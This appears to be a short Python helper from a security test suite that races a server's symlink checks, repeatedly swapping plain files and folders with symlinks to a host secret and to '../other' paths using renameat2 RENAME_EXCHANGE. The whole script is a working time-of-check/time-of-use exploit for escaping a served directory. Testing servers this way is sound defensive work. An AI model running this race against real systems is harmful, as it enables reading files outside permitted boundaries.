# Exchanges what the server looks at for links, over and over, in the hope of one look in between.
import threading, time

RENAME_EXCHANGE, AT_FDCWD = 2, -100
secret = ARGS["host_secret"]


def place(name, plain, link):
    if plain == "folder":
        os.mkdir(name)
        with open(f"{name}/secret", "w") as file:
            file.write("own")
    else:
        with open(name, "w") as file:
            file.write("own")
    os.symlink(link, f".{name}")


place("file", "file", secret)
place("relative", "file", "../other/secret")
place("folder", "folder", os.path.dirname(secret))
place("up", "folder", "../other")
pairs = [(name.encode(), f".{name}".encode()) for name in ("file", "relative", "folder", "up")]
print("go", flush=True)
until = time.monotonic() + ARGS["seconds"]
swaps = 0
while time.monotonic() < until:
    for one, two in pairs:
        # What the server deleted meanwhile is not there to be exchanged.
        libc.renameat2(AT_FDCWD, ctypes.c_char_p(one), AT_FDCWD, ctypes.c_char_p(two), RENAME_EXCHANGE)
        swaps += 1
print(swaps, flush=True)
